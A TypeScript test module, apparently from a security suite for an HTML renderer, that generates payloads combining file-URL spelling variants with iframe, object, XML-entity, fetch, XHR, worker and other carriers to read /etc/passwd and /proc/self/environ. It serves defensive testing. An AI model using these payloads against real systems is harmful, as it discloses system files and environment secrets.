import { attacks } from './attack.ts';

const FILES = ['/etc/passwd', '/proc/self/environ'] as const;

const SPELLINGS = [
  (path: string) => `file://${path}`,
  (path: string) => `file:${path}`,
  (path: string) => `FILE://localhost${path}`,
  (path: string) => `file://127.0.0.1${path}`,
  (path: string) => `view-source:file://${path}`,
  (path: string) => `filesystem:file://${path}`,
  (path: string) => `blob:file://${path}`,
  (path: string) => `jar:file://${path}!/`,
];

/** Ways to show the text of a file. */
const CARRIERS: Readonly<Record<string, (url: string) => string>> = {
  iframe: (url) => `<iframe src="${url}"></iframe>`,
  object: (url) => `<object data="${url}" type="text/plain"></object>`,
  embed: (url) => `<embed src="${url}" type="text/plain">`,
  frameset: (url) => `<frameset cols="*"><frame src="${url}"></frameset>`,
  refresh: (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  base: (url) => `<base href="file:///"><iframe src="${url.replace(/^.*?:\/*/, '')}"></iframe>`,
  entity: (url) =>
    `<iframe src="data:application/xml,${encodeURIComponent(`<!DOCTYPE a [<!ENTITY e SYSTEM "${url}">]><a>&e;</a>`)}"></iframe>`,
  fetch: (url) =>
    `<body><script>fetch('${url}').then((r) => r.text()).then((t) => document.body.append(t))</script>`,
  xhr: (url) =>
    `<body><script>const x = new XMLHttpRequest(); x.open('GET', '${url}', false); try { x.send() } finally { document.body.append(x.responseText) }</script>`,
  location: (url) => `<body><script>location = '${url}'</script>`,
  open: (url) =>
    `<body><script>const w = window.open('${url}'); setTimeout(() => document.body.append(w?.document.body.innerText), 99)</script>`,
  'frame-read': (url) =>
    `<body><iframe id=f src="${url}"></iframe><script>f.onload = () => document.body.append(f.contentDocument?.body.innerText)</script>`,
  worker: (url) =>
    `<body><script>new Worker(URL.createObjectURL(new Blob(["fetch('${url}').then((r) => r.text()).then(postMessage)"]))).onmessage = (e) => document.body.append(e.data)</script>`,
  import: (url) =>
    `<body><script type=module>import('${url}').catch((e) => document.body.append(e))</script>`,
};

/** The text of the machine's own files, by every carrier, in changing spellings. */
export const FILE_ATTACKS = attacks(
  Object.fromEntries(
    Object.entries(CARRIERS).flatMap(([carrier, markup], index) =>
      FILES.map((path, at) => {
        const spell = SPELLINGS[(index * FILES.length + at) % SPELLINGS.length] ?? String;
        return [`${carrier} ${path}`, () => markup(spell(path)) + markup(`file://${path}`)];
      }),
    ),
  ),
);
